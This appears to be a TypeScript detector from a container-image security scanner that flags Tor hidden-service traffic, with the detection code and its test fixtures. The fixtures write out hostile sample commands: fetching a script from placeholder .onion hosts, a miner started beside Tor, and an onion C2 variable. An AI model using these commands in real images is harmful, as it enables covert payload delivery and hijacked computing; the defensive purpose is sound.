import { render } from '../trace/value.ts';
import { saysOf } from './declared.ts';
import { destinationOf } from './destinations.ts';
import type { Detector, FindingDraft, Scene } from './detector.ts';
import { effectsOf } from './effects-of.ts';
import { payloadOf } from './payload.ts';
import { packageOwning } from './setting.ts';
import { severityOf } from './severity.ts';
import { chainOf, findingOf, sightingOf } from './sighting.ts';
import { clip, valueWords } from './wording.ts';

/** Traffic through Tor. */
export const onionService: Detector = {
  id: 'onion-service',
  version: 1,
  title: 'Talks to hidden services through Tor.',
  attack: ['T1090.003', 'T1573'],
  description: `
Tor hides who is at the other end. *Malicious* when something comes from or goes to a fixed hidden service (or through a gateway
such as tor2web), or Tor is started beside another payload; *suspicious* when Tor is started in an image that does not say so; a
*note* for an image that says that it is a Tor proxy, relay or browser.
`,
  fires: [
    {
      name: 'a download from a hidden service',
      image: { cmd: ['sh', '-c', `curl -sx socks5h://127.0.0.1:9050 http://${'a'.repeat(56)}.onion/x.sh -o /tmp/x`] },
    },
    { name: 'through a gateway', image: { cmd: ['sh', '-c', `wget -qO /tmp/x https://${'b'.repeat(56)}.onion.ws/x`] } },
    {
      name: 'beside a payload',
      image: { cmd: ['sh', '-c', 'tor & sleep 9; ./m -o stratum+tcp://p.mine.example:1 -u w'] },
    },
    { name: 'in a variable', image: { cmd: ['app'], env: [`C2=http://${'c'.repeat(56)}.onion:80/`] } },
    {
      name: 'started without saying so',
      severity: 'suspicious',
      image: { cmd: ['sh', '-c', 'tor -f /etc/torrc & exec app'] },
    },
  ],
  silent: [
    {
      name: 'a declared proxy',
      severity: 'note',
      image: { name: 'docker.io/someones/tor-socks-proxy:1', cmd: ['tor', '-f', '/etc/tor/torrc'] },
    },
    { name: 'checking a configuration', image: { cmd: ['sh', '-c', 'tor --verify-config -f /etc/torrc; exec app'] } },
    {
      name: 'an address in a document',
      image: { files: { '/usr/share/doc/x/README': `see http://${'a'.repeat(56)}.onion/\n` } },
    },
  ],
  detect(scene) {
    const declared = saysOf(scene, [
      'tor',
      'onion',
      'torproxy',
      'privoxy',
      'obfs4',
      'whonix',
      'torbrowser',
      'i2p',
      'securedrop',
      'onionshare',
      'bitcoin',
      'lnd',
      'monero',
    ]);
    return [...byAddress(scene, declared), ...byProgram(scene, declared), ...byEnvironment(scene, declared)];
  },
};

function byAddress(scene: Scene, declared: boolean): readonly FindingDraft[] {
  return scene.story.effects.flatMap((effect) => {
    const to =
      effect.kind === 'fetch'
        ? effect.url
        : effect.kind === 'exfiltrate'
          ? effect.to
          : effect.kind === 'connect'
            ? effect.to.host
            : undefined;
    if (!to || destinationOf(to).kind !== 'onion') return [];
    return findingOf(scene, sightingOf(scene, effect), {
      threat: declared ? 'minor' : 'hostile',
      title: `${effect.kind === 'fetch' ? 'Downloads from' : 'Talks to'} a hidden service (${valueWords(to, 90)})`,
      because: declared ? undefined : 'Nobody can tell who is behind it.',
      effects: [effect.id],
    });
  });
}

/** An address handed to a program through the image's own variables. */
function byEnvironment(scene: Scene, declared: boolean): readonly FindingDraft[] {
  return (scene.facts.image.config.config?.Env ?? []).slice(0, 1000).flatMap((entry): FindingDraft[] => {
    const value = entry.slice(entry.indexOf('=') + 1, 1000);
    if (!value.includes('.onion') || destinationOf([value]).kind !== 'onion') return [];
    const judged = severityOf({ threat: declared ? 'minor' : 'hostile', reach: 'runs' });
    const where = { config: 'Env' };
    return judged
      ? [
          {
            title: `Is set up to talk to a hidden service (${clip(value, 90)})`,
            ...judged,
            confidence: 'medium',
            reach: 'runs',
            where,
            evidence: [{ text: entry.slice(0, 500), where }],
          },
        ]
      : [];
  });
}

function byProgram(scene: Scene, declared: boolean): readonly FindingDraft[] {
  return effectsOf(scene, 'tunnel').flatMap((effect) => {
    if (effect.how !== 'onion') return [];
    const sighting = sightingOf(scene, effect);
    const payload = payloadOf(scene, chainOf(scene.story, sighting.stage)[0]?.id);
    const hostile = payload?.worst === 'hostile';
    // The package's own service script, which starts when somebody wants the service.
    const own = sighting.reach !== 'runs' && packageOwning(scene, sighting.where.path ?? '') !== undefined;
    if (own && !hostile) return [];
    return findingOf(scene, sighting, {
      threat: declared ? 'minor' : hostile ? 'hostile' : 'dual-use',
      title: `Starts Tor (${render(sighting.command?.argv[0] ?? [effect.tool]).slice(0, 80)})`,
      because: hostile ? `The same code runs ${payload.what}.` : undefined,
      effects: [effect.id],
      encodingDeceives: !declared,
    });
  });
}
